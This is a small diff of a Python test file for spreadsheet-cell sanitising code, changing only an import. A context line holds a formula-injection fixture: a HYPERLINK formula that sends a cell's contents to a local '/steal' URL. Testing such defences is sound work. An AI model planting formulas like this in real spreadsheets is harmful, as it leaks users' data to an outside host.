@@ -8,8 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import shared
-from tests.support import wk
+from tests.support import shared, wk
 from watchkeeper.spreadsheet import original_cell, safe_cell
 
 HYPERLINK = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"details")'
